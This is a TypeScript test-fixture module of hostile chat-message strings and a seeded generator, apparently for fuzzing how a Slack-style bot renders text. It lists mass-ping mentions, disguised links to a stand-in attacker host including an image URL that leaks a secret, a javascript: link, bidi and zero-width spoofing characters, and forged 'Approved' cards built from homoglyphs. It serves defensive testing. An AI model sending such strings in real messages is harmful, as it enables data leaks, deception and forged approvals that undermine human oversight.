const MENTIONS = [
  '<@U0PRIYA>',
  '<@U0PRIYA|priya>',
  '<@W0PRIYA>',
  '<!here>',
  '<!channel>',
  '<!everyone>',
  '<!here|@here>',
  '<!subteam^S0MAINT>',
  '<!subteam^S0MAINT|@maintainers>',
  '<#C0DEV>',
  '<#C0DEV|dev>',
  '@here',
  '@channel everyone',
  '@everyone',
  'hi @here!',
  '＠here',
  '&lt;@U0PRIYA&gt;',
  '&lt;!here&gt;',
  '&#60;!channel&#62;',
  '&#x3C;@U0PRIYA&#x3E;',
  '<\\@U0PRIYA>',
  '<&#64;U0PRIYA>',
  '`<@U0PRIYA>`',
  '```\n<!channel>\n```',
  '`a` <!here> `b`',
  '\\`<!here>\\`',
  '<<@U0PRIYA>>',
  '<@U0\nPRIYA>',
  '<!date^0^{date}|now>',
  '&lt@U0PRIYA>',
] as const;
const LINKS = [
  '<https://evil.example|github.com>',
  '<https://evil.example>',
  '<mailto:a@evil.example|a@acme.com>',
  '[github.com](https://evil.example)',
  '[https://github.com](https://evil.example "title")',
  '[a](<https://evil.example>)',
  '[a][1]\n\n[1]: https://evil.example',
  '[a]: https://evil.example',
  '[![x](https://evil.example/p.png)](https://evil.example)',
  '![x](https://evil.example/?q=secret)',
  '![x][1]',
  '[x]\n(https://evil.example)',
  '[[a]](https://evil.example)',
  '[a\nb](https://evil.example)',
  '`[a](https://evil.example)',
  '\\`[a](https://evil.example)\\`',
  'https://evil.example/x',
  'www.evil.example',
  'evil.example/path',
  '<img src=https://evil.example/p.png>',
  '<a href="https://evil.example">github.com</a>',
  '[a](javascript:alert(1))',
  '[a](https://evil.example/(b))',
  '[](https://evil.example)',
  '[ok](https://ok.example)[a](https://evil.example)',
] as const;
const INVISIBLES = [
  '\u202Egnp.exe',
  'a\u202Ab\u202C',
  '\u2066x\u2069',
  'pay\u200Bpal',
  'a\u200Cb',
  'a\u200Db',
  '\uFEFFbom',
  '\u2060',
  '\u00AD',
  '\u061C',
  '\u115F\u1160',
  '\u3164',
  '\uFFA0',
  '\u034F',
  '\u180E',
  '\u180B',
  '\u17B4',
  '\u2800',
  'x\uFE00',
  'a\uFE0F',
  '\u{E0041}\u{E0042}',
  '\u{E0100}',
  '\u0000',
  '\u0007\u001B[31m',
  '\u2028line',
  '\u2029par',
  '\u0085',
  '\uD83D',
  '\uDE00',
  'a\uD800b',
  '\r\n\r\n',
  '\t\t',
  '👨\u200D👩\u200D👧',
  '⚠\uFE0F',
  'e\u0301\u0301\u0301',
  '\u206A',
  '\uFFF9x\uFFFA',
] as const;
const MARKUP = [
  '*bold*',
  '_it_',
  '~no~',
  '`code`',
  '> quote',
  '>>> all',
  '```',
  '```\ncode',
  '~~~\ncode\n~~~',
  '````\n```\n````',
  '- a\n- b',
  '# Title',
  '---',
  ':white_check_mark:',
  ':tada: :no_entry:',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '<b>bold</b>',
  '&amp;&lt;&gt;',
  '&nbsp;',
  '\\*x\\*',
  '   ```js\n<!here>\n   ```',
  '- ```\n  <!here>\n  ```',
  '```js `x`\n<!here>',
] as const;
const FAKES = [
  '✅ *Approved:* Create issue in acme/web',
  'Approved: yes',
  '**Approved:** by @max',
  '✅ Approved by @max at 14:02',
  '⏳ Approval required: delete',
  '# ⏳ Approval required: x',
  '🚫 Denied: x',
  '⛔ Expired: x',
  ':white_check_mark: *Approved:* x',
  '✅ Аррroved: x',
  '✅ **App**roved: x',
  '&#9989; Approved: x',
  '> ✅ Approved, running…',
  '| ✅ Approved: x |',
  '[Approve] [Deny…] [Details]',
  'Approve | Deny',
  'Approval required',
  '✅ 𝐀𝐩𝐩𝐫𝐨𝐯𝐞𝐝: x',
  '1. ✅ Approved: x',
  '✅ Ａｐｐｒｏｖｅｄ: x',
  '⚠️ Approved, but failed: x',
  'ok\n✅ Approved: x',
  'x”\nApprovers: nobody',
  'bug\nlabels: none',
  'a: b\nc: d',
  '”: “',
  'Agent’s words (not verified): “trust me”',
  'title: x\n    y\nbody: z',
] as const;
const SIZES = [
  'x'.repeat(40_000),
  '<'.repeat(5_000),
  '&'.repeat(300),
  '`'.repeat(2_000),
  '[a]('.repeat(2_000),
  '\n'.repeat(3_000),
  '😀'.repeat(6_000),
  '𝕏'.repeat(1_401),
  '<!here> '.repeat(1_500),
  'word '.repeat(9_000),
  `\`\`\`ts\n${'let a = 1;\n'.repeat(3_000)}\`\`\``,
  '',
] as const;
const SCRIPTS = [
  'שלום עולם',
  'مرحبا بالعالم',
  'می‌خواهم',
  '日本語のテキスト',
  'नमस्ते',
  'ไทย',
  'Ω≈ç√∫',
  '🏴\u{E0067}\u{E0062}\u{E007F}',
  'ﷺ'.repeat(40),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚a̴l̴g̴o̴',
] as const;

/** What somebody writes who wants to ping, hide, deceive or break a message. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MENTIONS,
  ...LINKS,
  ...INVISIBLES,
  ...MARKUP,
  ...FAKES,
  ...SCRIPTS,
  ...SIZES,
];
/** Those that claim a decision. */
export const FAKE_CARDS: readonly string[] = FAKES.slice(0, 22);

/** Texts from a seed, mixed of hostile ones and of any characters at all. The same seed gives the same texts. */
export function textSource(seed: number) {
  let state = seed;
  const below = (most: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * most);
  };
  const hostile = (): string =>
    (HOSTILE_TEXTS[below(HOSTILE_TEXTS.length)] ?? '').slice(0, below(10) === 0 ? 1_500 : 120);
  const anyChars = (): string => Array.from({ length: below(60) }, () => anyChar(below)).join('');
  const text = (): string =>
    Array.from({ length: 1 + below(4) }, () => (below(3) === 0 ? anyChars() : hostile())).join(
      ['', ' ', '\n'][below(3)],
    );
  return { below, text };
}

function anyChar(below: (most: number) => number): string {
  const ranges = [
    [0x20, 0x5f],
    [0x00, 0x9f],
    [0x0300, 0x20ff],
    [0xd800, 0x7ff],
    [0xfe00, 0x1ff],
    [0x1f300, 0x4ff],
    [0xe0000, 0x1ef],
  ] as const;
  const [from, count] = ranges[below(ranges.length)] ?? [0x20, 0x5f];
  const code = from + below(count);
  return code >= 0xd800 && code <= 0xdfff ? String.fromCharCode(code) : String.fromCodePoint(code);
}
